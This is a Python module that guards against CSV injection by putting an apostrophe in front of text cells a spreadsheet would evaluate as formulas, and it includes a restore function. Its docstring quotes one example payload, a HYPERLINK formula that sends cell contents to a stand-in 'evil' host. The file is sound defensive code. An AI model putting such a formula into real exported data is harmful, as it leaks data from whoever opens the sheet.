"""Spreadsheet-safe CSV cells: the one rule every CSV this project writes from user text follows.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (CSV injection, OWASP): a comment such as
``=HYPERLINK("http://evil/?"&A1,"click")`` would run in a moderator's spreadsheet. Such cells are
written with a leading apostrophe, which spreadsheets show as plain text.

The rule is reversible: a cell that starts with an apostrophe also gets one, so a program that
knows the rule restores every value exactly by removing one leading apostrophe from any cell that
starts with one (:func:`restore_cell`).
"""

from __future__ import annotations

import pandas as pd

#: First characters that make a spreadsheet evaluate a cell, plus the escape character itself.
TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "'")
ESCAPE = "'"


def safe_cell(value: object) -> object:
    """``value`` with the escape prefix when it is text that a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return ESCAPE + value
    return value


def restore_cell(value: str) -> str:
    """The original text of a cell written by :func:`safe_cell`."""
    return value[1:] if value.startswith(ESCAPE) else value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names follow the rule (other dtypes untouched)."""
    out = df.copy()
    for col in out.columns:
        values = out[col]
        if isinstance(values.dtype, pd.StringDtype):
            mask = values.str.startswith(TRIGGERS, na=False).astype(bool)
        elif _cannot_hold_text(values.dtype):
            continue
        else:  # object, categorical (Parquet's dictionary-encoded text), Arrow-backed and other dtypes
            values = values.astype(object)
            mask = values.map(lambda v: isinstance(v, str) and v.startswith(TRIGGERS)).astype(bool)
        if mask.any():
            out[col] = values.where(~mask, ESCAPE + values[mask].astype(str))
    out.columns = [safe_cell(str(c)) for c in out.columns]
    return out


def _cannot_hold_text(dtype: object) -> bool:
    """Numbers, booleans and timestamps: dtypes whose cells are never text."""
    from pandas.api import types

    if isinstance(dtype, (pd.CategoricalDtype, pd.ArrowDtype)):
        return False
    return bool(types.is_numeric_dtype(dtype) or types.is_bool_dtype(dtype) or types.is_datetime64_any_dtype(dtype)
                or types.is_timedelta64_dtype(dtype))
